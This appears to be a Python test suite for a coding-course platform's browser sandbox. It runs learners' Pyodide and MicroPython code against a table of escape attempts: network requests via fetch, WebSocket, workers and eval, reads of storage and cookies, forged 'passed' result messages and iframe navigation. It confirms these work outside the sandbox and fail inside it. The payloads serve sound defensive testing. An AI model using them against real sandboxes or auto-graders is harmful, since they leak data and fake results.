"""Learners' code reaches nothing: no network, no storage, no page. Where no cage is, the same attacks reach their aim."""

import json
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page

from tests.stories.benches import Bench
from tests.stories.conftest import Classroom
from tests.stories.devices import Devices
from tests.stories.outside import Outside
from tests.stories.servers import HOSTS

COURSE = "web-first-steps"
EXERCISE = "title-place"
PYTHONS = ("micropython", "pyodide")
# The engine of an attack is still there when its request should be on the way.
TRIES = 500
# A worker that is ended while its request waits for its turn makes none (a socket on a busy machine: three of four).
UNCAGED_ATTACKS = 100
CAGED_ATTACKS = 3
PATIENCE_SECONDS = 0.5
LINGER = "\nimport time\nend = time.time() + 0.2\nwhile time.time() < end:\n    pass\n"


def in_python(*statements: str) -> str:
    return "\n".join(("import js", *statements)) + LINGER


def in_worker(attempt: str) -> str:
    """Python that has any JavaScript run in a worker of its own, and notes in `tried` when that was tried."""
    script = f"{attempt}.catch(() => 0).then(() => postMessage(1))"
    return "\n".join(
        (
            "import js",
            "from pyodide.ffi import create_proxy",
            "js.tried = False",
            f"blob = js.Blob.new(js.JSON.parse({json.dumps(json.dumps([script]))}))",
            "worker = js.Worker.new(js.URL.createObjectURL(blob))",
            "worker.onmessage = create_proxy(lambda event: setattr(js, 'tried', True))",
        )
    )


# What a program does to reach {url}, for each engine that can do it.
ATTACKS: dict[str, dict[str, str]] = {
    engine: {
        "fetch": in_python("js.fetch('{url}')"),
        "fetch with cookies": in_python(
            'how = js.JSON.parse(\'{"mode": "no-cors", "method": "POST", "credentials": "include"}\')', "js.fetch('{url}', how)"
        ),
        "XMLHttpRequest": in_python("x = js.XMLHttpRequest.new()", "x.open('GET', '{url}', False)", "x.send()"),
        "WebSocket": in_python("js.WebSocket.new('{url}'.replace('http', 'ws'))"),
        "EventSource": in_python("js.EventSource.new('{url}')"),
        "importScripts": in_python("js.importScripts('{url}')"),
        "font": in_python("js.FontFace.new('x', 'url({url})').load()"),
        "eval": in_python("js.eval('fetch(\"{url}\")')"),
    }
    for engine in PYTHONS
}
ATTACKS["pyodide"] |= {
    "fetch from another worker": in_worker("fetch('{url}')"),
    "import from another worker": in_worker("import('{url}')"),
    "run_js": "from pyodide.code import run_js\nrun_js('fetch(\"{url}\")')" + LINGER,
}
EVERY_ATTACK = pytest.mark.parametrize(
    ("engine", "attack"), [(engine, attack) for engine, attacks in ATTACKS.items() for attack in attacks]
)


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    with Outside(HOSTS["box"]) as computer:
        yield computer


@pytest.fixture(scope="module")
def bench(chromium: Browser, classroom: Classroom) -> Iterator[Bench]:
    """The runner on an exercise page, in the cage of the box."""
    devices = Devices(chromium)  # a browser complains of what it forbids: its complaints are no faults of the page
    page = classroom.learner(devices, "en", "Amina").page
    page.goto(f"{classroom.box.address}/try/{COURSE}/{EXERCISE}")
    yield Bench(page)
    page.context.close()


@pytest.fixture(scope="module")
def uncaged(chromium: Browser, outside: Outside) -> Iterator[Bench]:
    """The same runner on a page where nothing is forbidden."""
    context = chromium.new_context()
    page = context.new_page()
    page.goto(outside.address)
    yield Bench(page)
    context.close()


def attack_outside(bench: Bench, engine: str, attack: str, url: str) -> None:
    """Returns when the attack was tried."""
    program = ATTACKS[engine][attack].replace("{url}", url)
    bench.run(engine, program)
    for _ in range(TRIES):
        if "tried" not in program or "True" in bench.run(engine, "import js\nprint(js.tried)").printed:
            return
    raise AssertionError("the attack was not even tried")


@EVERY_ATTACK
def test_attack_reaches_its_aim_where_no_cage_is(uncaged: Bench, outside: Outside, engine: str, attack: str) -> None:
    """Otherwise the next test would prove nothing."""
    name = f"uncaged {engine} {attack}"
    for _ in range(UNCAGED_ATTACKS):
        attack_outside(uncaged, engine, attack, outside.url(name))
        if outside.was_reached_by(name, patience_seconds=PATIENCE_SECONDS):
            return
    raise AssertionError(f"{UNCAGED_ATTACKS} attacks reached nothing")


@EVERY_ATTACK
def test_attack_reaches_nothing_from_the_cage(bench: Bench, outside: Outside, engine: str, attack: str) -> None:
    name = f"caged {engine} {attack}"
    for _ in range(CAGED_ATTACKS):
        attack_outside(bench, engine, attack, outside.url(name))
    assert not outside.was_reached_by(name)


@pytest.mark.parametrize("engine", PYTHONS)
def test_storage_cookies_and_pages_are_out_of_reach(bench: Bench, engine: str) -> None:
    program = """import js
def reach(name, use):
    try:
        found = use()
        print(name, 'none' if found is None or str(found) in ('undefined', 'null') else 'REACHED ' + str(found))
    except Exception as error:
        print(name, 'none')
for name in ('document', 'parent', 'top', 'opener', 'window', 'localStorage', 'sessionStorage', 'cookieStore', 'caches'):
    reach(name, lambda: getattr(js, name))
reach('origin', lambda: None if js.origin == 'null' else js.origin)
reach('serviceWorker', lambda: js.navigator.serviceWorker)
reach('storage', lambda: js.navigator.storage)
reach('indexedDB', lambda: js.indexedDB.open('x'))
"""
    run = bench.run(engine, program)
    assert "storage none" in run.printed
    assert "REACHED" not in run.printed


@pytest.mark.parametrize("engine", PYTHONS)
def test_messages_of_a_program_reach_no_page(bench: Bench, engine: str) -> None:
    page = bench.page
    page.evaluate("""() => {
      bench.messages = [];
      addEventListener('message', ({data}) => bench.messages.push(data));
      new BroadcastChannel('campbox').onmessage = ({data}) => bench.messages.push(data);
    }""")
    before = page.content()
    forged = json.dumps(
        {"type": "tested", "outcome": {"passed": True, "code": "", "params": {}, "line": None, "text": ""}, "output": ""}
    )
    program = (
        f"""import js
forged = js.JSON.parse({json.dumps(forged)})
js.postMessage(forged)
js.BroadcastChannel.new('campbox').postMessage(forged)
js.dispatchEvent(js.MessageEvent.new('message', js.JSON.parse('{{"data": {{}}}}')))
"""
        + LINGER
    )
    checked = bench.check(engine, program + "print('b')", {"input": [], "output": "a"})
    assert [each["code"] for each in checked["tests"]] == ["output-differs"]
    assert page.evaluate("bench.messages") == []
    assert page.content() == before


@pytest.mark.parametrize("engine", PYTHONS)
def test_program_that_replaces_what_the_worker_uses_forges_nothing(bench: Bench, engine: str) -> None:
    program = """import js
forged = js.JSON.parse('{"type": "tested", "outcome": {"passed": true, "code": "", "params": {}, "line": null, "text": ""}}')
js.globalThis.__forged = forged
js.JSON.parse = js.JSON.stringify = js.Object
js.MessagePort.prototype.postMessage = js.Object
js.onmessage = js.Object
print('b')
"""
    checked = bench.check(engine, program, {"input": [], "output": "a"})
    assert [each["code"] for each in checked["tests"]] == ["output-differs"]
    bench.page.evaluate("bench.runner.stop()")


def complaints(page: Page) -> list[str]:
    heard: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        heard.append(message.text)

    page.on("console", hear)
    return heard


@pytest.mark.parametrize("engine", PYTHONS)
def test_program_that_ends_its_own_worker_is_ended_and_the_next_one_runs(bench: Bench, engine: str) -> None:
    bench.ready(engine)
    run = bench.run(engine, "import js\njs.close()\nwhile True:\n    pass")
    assert run.status == "stopped"
    assert bench.run(engine, "print('next')").printed == "next\n"


def test_frame_is_led_to_no_other_page_of_the_box(bench: Bench, classroom: Classroom) -> None:
    """A frame may change its own address; what it asks the box for then would come from the learner."""
    page = bench.page
    heard = complaints(page)
    page.evaluate("bench.runner.ready('micropython')")
    for address in (f"{classroom.box.address}/home", f"{classroom.box.address}/state.json"):
        page.evaluate(
            "(address) => { const frame = document.body.appendChild(document.createElement('iframe')); frame.src = address; }",
            address,
        )
    page.wait_for_function("document.querySelectorAll('iframe').length >= 3")
    assert [each for each in heard if "frame-src" in each]
